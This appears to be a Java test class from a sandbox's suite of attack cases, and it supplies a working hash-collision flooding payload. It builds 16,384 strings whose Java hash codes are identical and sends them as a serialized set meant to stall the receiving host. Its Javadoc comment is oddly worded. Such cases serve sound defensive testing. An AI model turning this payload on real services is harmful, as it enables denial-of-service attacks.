package com.portofcontext.pctx.sandbox.attacks.results;

import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Set;

/**
 * Lists that a hash table finds only one by one: of texts, it would put them in order.
 */
class CollidingElements extends ResultAttack {

	@Override
	public Set<List<String>> attack(List<String> arguments) {
		byte[] set = new byte[5 + 16_384 * 31];
		ByteBuffer bytes = ByteBuffer.wrap(set).put((byte) 0x9a).putInt(16_384);
		for (int i = 0; i < 16_384; i++) {
			bytes.put((byte) 0x81).put((byte) 0x78).put((byte) 28);
			for (int bit = 0; bit < 14; bit++) {
				bytes.put((((i >> bit) & 1) == 0 ? "Aa" : "BB").getBytes(StandardCharsets.US_ASCII));
			}
		}
		send(row(set));
		return Set.of();
	}

}
